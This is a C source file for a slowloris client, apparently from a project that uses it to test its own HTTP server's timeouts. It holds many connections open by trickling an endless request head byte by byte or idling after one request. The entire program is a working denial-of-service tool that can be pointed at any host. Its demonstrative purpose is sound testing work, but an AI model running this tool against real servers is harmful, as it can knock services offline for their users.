/*
 * slowloris - the slow-client attack, to try a server with: hold N connections open and
 * keep each one busy doing almost nothing, the way "slowloris" (2009) took down web servers
 * that give every connection a thread or a process.
 *
 * Usage: slowloris [-H host] -p port [-n connections] [-m trickle|idle] [-i ms] [-d secs]
 *
 * Shows: why a server must bound time as well as connections. Two ways to hold a
 * connection while costing the attacker almost nothing:
 *   trickle  send a request head one byte every -i ms (default 1000) and never finish it:
 *            each byte resets a plain idle timeout, so only a deadline for the whole head
 *            ends it
 *   idle     send one complete keep-alive request, read the reply, then stay silent: a
 *            persistent connection that the idle timeout (-t of http-server) ends
 * A connection the server closes is opened again on the next tick, so N stay open. One
 * thread and poll() drive them all; connect() does not wait (O_NONBLOCK). When all N are open (idle: and each has had its reply) it prints
 * "holding N connections"; at the end (-d seconds, or SIGINT/SIGTERM) it prints how many
 * the server closed.
 *
 * Run it against http-server, then ask for a page from another terminal:
 *     ./slowloris -p 8000 -n 1000 -m trickle &
 *     curl -s -o /dev/null -w '%{http_code} %{time_total}s\n' http://127.0.0.1:8000/
 * See also: README.md ("Slow clients"), bench/http/slow.sh.
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "deadline.h"
#include "die.h"
#include "net.h"

#define DEFAULT_CONNS 100
#define DEFAULT_INTERVAL_MS 1000

/* The endless head a trickling connection sends: a request line, a Host, then header
 * lines for ever ("X-a: b" again and again), never the empty line that would end it. */
static const char head_start[] = "GET / HTTP/1.1\r\nHost: slowloris\r\n";
static const char head_more[] = "X-a: b\r\n";
static const char idle_request[] = "GET / HTTP/1.1\r\nHost: slowloris\r\n\r\n";

struct conn {
    int fd;    /* -1: to be opened */
    size_t at; /* trickle: bytes sent so far; idle: 1 once the reply came */
    int asked; /* idle: the request has been sent */
};

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
    (void)sig;
    stop = 1;
}

/* A new connection to the server, or -1. The connect() does not wait: one connection whose
 * SYN is lost (retried after a second) must not hold up the others. Until it completes,
 * send() fails and is tried again on the next tick. */
static int open_conn(const struct sockaddr_storage *addr, socklen_t len)
{
    int fd = socket(addr->ss_family, SOCK_STREAM, 0);
    if (fd == -1)
        die("socket");
    if (set_nonblocking(fd) == -1)
        die("fcntl O_NONBLOCK");
    if (connect(fd, (const struct sockaddr *)addr, len) == -1 && errno != EINPROGRESS) {
        close(fd);
        return -1; /* try again on the next tick */
    }
    return fd;
}

/* The next byte of the endless head. */
static char next_byte(size_t at)
{
    size_t first = sizeof head_start - 1, more = sizeof head_more - 1;
    return at < first ? head_start[at] : head_more[(at - first) % more];
}

static void usage(void)
{
    printf("usage: slowloris [-H host] -p port [-n connections] [-m trickle|idle] [-i ms] "
           "[-d secs]\n"
           "Holds N connections to an HTTP server, each sending a request head one byte at\n"
           "a time (trickle) or silent after one reply (idle), to show slow-client attacks.\n"
           "  -H host  the server (default 127.0.0.1)\n"
           "  -p port  its port\n"
           "  -n N     connections to hold (default %d)\n"
           "  -m mode  trickle (default) or idle\n"
           "  -i ms    trickle: one byte per connection every ms milliseconds (default %d)\n"
           "  -d secs  stop after secs seconds (default: at SIGINT or SIGTERM)\n"
           "  -h       this help\n",
           DEFAULT_CONNS, DEFAULT_INTERVAL_MS);
}

int main(int argc, char *argv[])
{
    set_progname(argv[0]);
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *host = "127.0.0.1", *port = NULL;
    long n = DEFAULT_CONNS, interval = DEFAULT_INTERVAL_MS, secs = 0;
    int idle = 0, opt;
    while ((opt = getopt(argc, argv, ":H:p:n:m:i:d:h")) != -1) {
        switch (opt) {
        case 'H':
            host = optarg;
            break;
        case 'p':
            parse_long(optarg, 1, 65535, "port");
            port = optarg;
            break;
        case 'n':
            n = parse_long(optarg, 1, 100000, "connection count");
            break;
        case 'm':
            if (strcmp(optarg, "idle") != 0 && strcmp(optarg, "trickle") != 0)
                usage_error("bad mode '%s' (expected trickle or idle)", optarg);
            idle = strcmp(optarg, "idle") == 0;
            break;
        case 'i':
            interval = parse_long(optarg, 1, 60000, "interval");
            break;
        case 'd':
            secs = parse_long(optarg, 1, 86400, "duration");
            break;
        case 'h':
            usage();
            return 0;
        case ':':
            usage_error("option -%c needs an argument", optopt);
        default:
            usage_error("unknown option -%c", optopt);
        }
    }
    if (optind != argc)
        usage_error("no arguments expected");
    if (port == NULL)
        usage_error("-p port is required");

    struct sockaddr_storage addr;
    socklen_t addrlen = net_resolve(host, port, SOCK_STREAM, &addr);
    struct rlimit rl; /* one descriptor per connection: raise the soft limit if need be */
    if (getrlimit(RLIMIT_NOFILE, &rl) == -1)
        die("getrlimit");
    if (rl.rlim_cur != RLIM_INFINITY && rl.rlim_cur < (rlim_t)n + 16) {
        rl.rlim_cur = rl.rlim_max == RLIM_INFINITY || rl.rlim_max > (rlim_t)n + 16
                          ? (rlim_t)n + 16 : rl.rlim_max;
        if (setrlimit(RLIMIT_NOFILE, &rl) == -1)
            die("setrlimit");
    }
    struct sigaction sa = {0};
    sa.sa_handler = on_signal;
    sigemptyset(&sa.sa_mask);
    if (sigaction(SIGINT, &sa, NULL) == -1 || sigaction(SIGTERM, &sa, NULL) == -1)
        die("sigaction");

    struct conn *c = calloc((size_t)n, sizeof *c);
    struct pollfd *p = calloc((size_t)n, sizeof *p);
    if (c == NULL || p == NULL)
        die("calloc");
    for (long i = 0; i < n; i++)
        c[i].fd = -1;
    long long end = secs > 0 ? now_ms() + secs * 1000 : -1, next_tick = now_ms();
    long closed = 0;
    int announced = 0;
    while (!stop && (end < 0 || now_ms() < end)) {
        long long now = now_ms();
        if (now >= next_tick) { /* a tick: open what is missing, send the next bytes */
            next_tick = now + interval;
            for (long i = 0; i < n; i++) {
                if (c[i].fd == -1) {
                    c[i].fd = open_conn(&addr, addrlen);
                    c[i].at = 0;
                    c[i].asked = 0;
                }
                if (c[i].fd != -1 && idle && !c[i].asked) {
                    ssize_t sent = send(c[i].fd, idle_request, sizeof idle_request - 1, MSG_NOSIGNAL);
                    c[i].asked = sent == (ssize_t)(sizeof idle_request - 1);
                } else if (c[i].fd != -1 && !idle) {
                    char b = next_byte(c[i].at);
                    if (send(c[i].fd, &b, 1, MSG_NOSIGNAL) == 1)
                        c[i].at++;
                }
            }
        }
        long ready = 0;
        for (long i = 0; i < n; i++) {
            p[i].fd = c[i].fd; /* -1: poll() skips it */
            p[i].events = POLLIN;
            ready += c[i].fd != -1 && c[i].at > 0; /* trickle: a byte sent; idle: a reply */
        }
        if (ready == n && !announced) {
            printf("holding %ld connections\n", n);
            announced = 1;
        }
        long long wait = next_tick - now_ms();
        if (end >= 0 && end - now_ms() < wait)
            wait = end - now_ms();
        if (poll(p, (nfds_t)n, wait < 0 ? 0 : (int)wait) == -1) {
            if (errno == EINTR)
                continue;
            die("poll");
        }
        for (long i = 0; i < n; i++) {
            if (p[i].fd == -1 || p[i].revents == 0)
                continue;
            char buf[4096]; /* a reply (idle), or the server closing on us */
            ssize_t got = recv(c[i].fd, buf, sizeof buf, 0);
            if (got > 0) {
                c[i].at = 1; /* idle: the reply came (trickle: an error reply, closed next) */
            } else if (got == 0 || (errno != EAGAIN && errno != EINTR)) {
                close(c[i].fd); /* the server closed it: open another on the next tick */
                c[i].fd = -1;
                closed++;
            }
        }
    }
    for (long i = 0; i < n; i++)
        if (c[i].fd != -1)
            close(c[i].fd);
    printf("closed by the server: %ld\n", closed);
    free(c);
    free(p);
    return 0;
}
